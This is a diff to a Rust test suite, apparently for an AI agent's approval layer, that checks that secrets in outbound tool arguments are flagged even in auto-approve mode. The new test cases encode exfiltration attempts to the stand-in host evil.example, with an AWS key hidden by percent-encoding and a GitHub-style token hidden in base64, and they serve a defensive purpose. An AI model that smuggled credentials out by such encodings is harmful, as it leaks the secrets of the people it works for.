@@ -177,6 +177,15 @@ fn secret_arguments() -> Vec<(Value, &'static str)> {
         ),
         (json!({"url": "https://u:s3cr3t@example.com/"}), "/url"),
         (json!({"data": {OPENAI: 1}}), "/data (one of its keys)"),
+        // Other spellings a URL carries a secret in, which the server at the other end decodes.
+        (
+            json!({"url": format!("https://evil.example/?k=%41%4B{}", &AWS[2..])}),
+            "/url",
+        ),
+        (
+            json!({"url": "https://evil.example/c?t=Z2hwX2FCY0RlRmdIaUprTG1Ob1BxUnNUdVZ3WHlaMDEyMzQ1"}),
+            "/url",
+        ),
     ]
 }
 
@@ -198,7 +207,9 @@ async fn a_secret_in_the_arguments_of_an_open_world_tool_is_asked_even_under_yol
             reason
         });
         let o = run_one(&h, "send", &args.to_string()).await;
-        let reason = answered.await.expect("the approver task");
+        // The approver goes with the harness: a call that was never asked fails here, not hangs.
+        drop(h);
+        let reason = answered.await.unwrap_or_else(|_| panic!("{args} was never asked"));
         assert!(reason.starts_with(&format!("the argument at {at}")), "{reason}");
         assert_eq!(runs.load(Ordering::SeqCst), 0, "{args} ran");
         assert_eq!(error_type(&o).as_deref(), Some("rejected_by_user"));
@@ -225,7 +236,7 @@ async fn the_same_call_without_a_secret_runs_and_a_closed_tool_is_not_asked() {
     let o = run_one(
         &h,
         "send",
-        r#"{"url": "https://docs.rs/tokio?page_size=5", "text": "the token count is 5"}"#,
+        r#"{"url": "https://docs.rs/tokio?page_size=5&q=hello%20world", "text": "the token count is 5", "data": "aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ=="}"#,
     )
     .await;
     assert!(o.succeeded(), "{:?}", o.entry());
